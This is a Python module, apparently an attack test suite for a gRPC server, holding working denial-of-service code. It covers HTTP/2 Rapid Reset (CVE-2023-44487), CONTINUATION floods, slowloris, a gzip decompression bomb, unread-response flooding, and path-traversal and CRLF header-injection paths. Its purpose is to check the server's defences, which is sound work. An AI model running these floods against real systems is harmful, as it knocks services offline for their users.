"""The attacks. Each goes on until a time and says what it did; one that is answered as it must not be raises Wrong."""

import collections
import gzip
import itertools
import socket
import struct
import time

import wire


class Wrong(Exception):
    """The server did what it must not."""


def _flood(server, until, hello, batches):
    """Sends batches on one connection after another, for as long as each takes them; how many, and on how many."""
    sent = connections = 0
    while time.monotonic() < until:
        connections += 1
        try:
            with wire.connect(server, hello) as stream:
                stream.settimeout(2)
                for batch in batches():
                    if time.monotonic() > until:
                        break
                    stream.sendall(batch)
                    sent += 1
                    if wire.closed(stream):
                        break
                    stream.settimeout(2)
        except OSError:
            pass
    if not sent:
        raise Wrong(f"nothing could be sent on {connections} connections")
    return sent, connections


def _reset(server, until, key):
    """Calls that are taken back at once (CVE-2023-44487)."""
    headers = wire.block(wire.call(wire.TEAMS, key))
    # An empty message: the call is whole, so that it begins.
    message, cancel = b"\0" * 5, struct.pack(">I", 8)
    size = 100

    def batches():
        for first in itertools.count(1, 2 * size):
            yield b"".join(
                wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
                + wire.frame(wire.DATA, wire.END_STREAM, stream, message)
                + wire.frame(wire.RST_STREAM, 0, stream, cancel)
                for stream in range(first, first + 2 * size, 2)
            )

    sent, connections = _flood(server, until, wire.hello(), batches)
    return f"{sent * size} calls taken back on {connections} connections"


def rapid_reset(server, until):
    return _reset(server, until, None)


def rapid_reset_with_a_key(server, until):
    return _reset(server, until, server.key)


def continuation_flood(server, until):
    """Headers that never end (CVE-2024-27316 and its like)."""
    headers = wire.block(wire.call(wire.HEALTH))
    more = wire.block([(f"x-{number}", "y" * 40) for number in range(200)])

    def batches():
        yield wire.frame(wire.HEADERS, 0, 1, headers)
        while True:
            yield wire.frame(wire.CONTINUATION, 0, 1, more) * 4

    sent, connections = _flood(server, until, wire.hello(), batches)
    return f"{sent * 4} frames on {connections} connections"


def metadata_of_1_mib(server, until):
    """One call with more metadata than any honest one, again and again."""
    headers = wire.block(wire.call(wire.HEALTH))
    much = wire.block([(f"x-{number}", "y" * 8000) for number in range(131)])
    parts = [much[start : start + 16384] for start in range(0, len(much), 16384)]

    def batches():
        for stream in itertools.count(1, 2):
            frames = [wire.frame(wire.HEADERS, wire.END_STREAM, stream, headers)]
            frames += [wire.frame(wire.CONTINUATION, 0, stream, part) for part in parts[:-1]]
            frames.append(wire.frame(wire.CONTINUATION, wire.END_HEADERS, stream, parts[-1]))
            yield b"".join(frames)

    sent, connections = _flood(server, until, wire.hello(), batches)
    return f"{sent} calls of {len(much) >> 10} KiB on {connections} connections"


def _loris(server, until, beginnings, sockets):
    """Holds many sockets open that begin to speak and never end; what is closed is opened again."""
    held, opened, refused = collections.deque(), 0, 0
    # Only who has had its 5 s to shake hands is closed; a short run ends before.
    long = until - time.monotonic() > 6
    while time.monotonic() < until:
        # As fast as sockets can be had: the server must not run out of room for others.
        for _ in range(200):
            if len(held) >= sockets or time.monotonic() > until:
                break
            try:
                stream = wire.connect(server, beginnings[opened % len(beginnings)])
                opened += 1
                held.append(stream)
            except OSError:
                refused += 1
        for _ in range(min(400, len(held))):
            stream = held.popleft()
            if wire.closed(stream):
                stream.close()
            else:
                held.append(stream)
    closed = opened - len(held)
    for stream in held:
        stream.close()
    if not opened:
        raise Wrong(f"no socket could be opened, {refused} times")
    if long and not closed:
        raise Wrong(f"none of {opened} sockets was closed")
    return f"{opened} sockets, {closed} closed by the server, {refused} not connected"


def slow_loris(server, until):
    """Silence, half a preface, and half the headers of a call."""
    headers = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.block(wire.call(wire.HEALTH)))
    return _loris(server, until, [b"", wire.PREFACE[:12], wire.hello() + headers[:20]], 1500)


def slow_tls_hello(server, until):
    """Silence, and half a hello of TLS."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 32
    return _loris(server, until, [b"", hello[:3], hello], 1500)


def zip_bomb(server, until):
    """Messages that grow a thousandfold."""
    bomb = gzip.compress(b"\0" * (48 << 20), 9)
    message = b"\1" + struct.pack(">I", len(bomb)) + bomb
    answers = collections.Counter()
    connection = wire.Answers(server)
    for path in itertools.cycle([wire.HEALTH, wire.TEAMS]):
        if time.monotonic() > until:
            break
        answer = connection.ask(wire.call(path, server.key, grpc_encoding="gzip"), message)
        answers[answer] += 1
        # gzip is understood, and what comes out of it is too large: INVALID_ARGUMENT.
        if answer != "grpc 3":
            raise Wrong(f"{path} answers a bomb with {answer}")
        if sum(answers.values()) % 500 == 0:
            connection = wire.Answers(server)
    if not answers:
        raise Wrong("no bomb was answered")
    return f"{dict(answers)} to {len(bomb) >> 10} KiB that would be {48} MiB"


def half_messages(server, until):
    """Strangers begin large messages on every stream there is, obey every window, and never end one."""
    headers = wire.call(wire.HEALTH)
    begun = b"\0" + struct.pack(">I", (4 << 20) - 5)
    chunk, sent, calls, held = b"x" * 16384, 0, 0, []
    while time.monotonic() < until:
        connection = wire.Answers(server)
        held.append(connection)
        if len(held) > 8:
            held.pop(0).socket.close()
        for _ in range(250):
            connection.begin(headers, begun)
            calls += 1
        # Two seconds fill a connection.
        over = min(until, time.monotonic() + 2)
        while time.monotonic() < over and connection.streams:
            more = connection.feed(chunk)
            if more is None:
                break
            sent += more
    for connection in held:
        connection.socket.close()
    return f"{calls} calls with {sent >> 20} MiB"


def answers_unread(server, until):
    """Strangers ask for much on every stream there is, let it all be sent, and read nothing."""
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    headers = wire.block(wire.call(path))
    symbol = b"muster.v1.UserService"
    # file_containing_symbol is field 4.
    question = b"\x22" + bytes([len(symbol)]) + symbol
    message = b"\0" + struct.pack(">I", len(question)) + question
    streams = range(1, 513, 2)
    calls = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) for stream in streams)
    most = (1 << 31) - 1
    hello = wire.hello(wire.settings(wire.INITIAL_WINDOW_SIZE, most))
    # The connection's window too.
    hello += wire.frame(wire.WINDOW_UPDATE, 0, 0, struct.pack(">I", most - 65535))
    held, asked = [], 0
    while time.monotonic() < until:
        stream = socket.socket()
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stream.settimeout(0.5)
        held.append(stream)
        try:
            stream.connect(server.address)
            # All of them are there before the first answer fills the socket.
            stream.sendall(hello + calls)
            time.sleep(0.2)
            for number in [*streams] * 3:
                stream.sendall(wire.frame(wire.DATA, 0, number, message * 100))
                asked += 100
        except OSError:
            # It takes no more while nothing is read, which is right.
            pass
        time.sleep(0.2)
    for stream in held:
        stream.close()
    return f"{asked} questions on {len(held)} connections"


ODD_PATHS = [
    "",
    "/",
    "//",
    "*",
    "muster",
    "muster.v1.TeamService/ListTeams",
    "/muster.v1.TeamService",
    "/muster.v1.TeamService/",
    "/muster.v1.TeamService/Nothing",
    "/muster.v1.Nobody/ListTeams",
    "/muster.v1.TeamService/ListTeams/",
    "/muster.v1.TeamService/ListTeams?a=b",
    "/muster.v1.TeamService/ListTeams#a",
    "//muster.v1.TeamService/ListTeams",
    "/muster.v1.TeamService/../TeamService/ListTeams",
    "/grpc.health.v1.Health/../../muster.v1.TeamService/ListTeams",
    "/grpc.health.v1.Health/%2e%2e/muster.v1.TeamService/ListTeams",
    "/grpc.health.v1.Health/Nothing",
    "/muster.v1.TeamService%2FListTeams",
    "/%6duster.v1.TeamService/ListTeams",
    "/MUSTER.V1.TEAMSERVICE/LISTTEAMS",
    "/muster.v1.TeamService/ListTeams\0",
    "/muster.v1.TeamService/ListTeams%00",
    "/muster.v1.TeamService/List Teams",
    "/muster.v1.TeamService/ListTeams\r\nauthorization: x",
    "/\xff\xfe",
    "http://muster/muster.v1.TeamService/ListTeams",
    "https://user:password@elsewhere.example/muster.v1.TeamService/ListTeams",
    "/" + "a" * 8192,
    "/" + "a/" * 4096,
]


def odd_paths(server, until):
    """Paths of every unusual form, without a key; none may be answered as if it had one."""
    answers = collections.Counter()
    # An empty message.
    message = b"\0" * 5
    for path in itertools.cycle(ODD_PATHS):
        if time.monotonic() > until:
            break
        try:
            answer = wire.Answers(server).ask(wire.call(path), message)
        except (TimeoutError, socket.timeout) as error:
            raise Wrong(f"{path[:60]!r} is not answered") from error
        except OSError:
            answer = "closed"
        if answer in ("grpc 0", "grpc 13", "grpc 2"):
            raise Wrong(f"{path[:60]!r} is answered with {answer}")
        answers[answer] += 1
    return f"{dict(answers)}"


PLAIN = [
    rapid_reset,
    rapid_reset_with_a_key,
    continuation_flood,
    metadata_of_1_mib,
    slow_loris,
    zip_bomb,
    half_messages,
    answers_unread,
    odd_paths,
]
TLS = [slow_tls_hello]
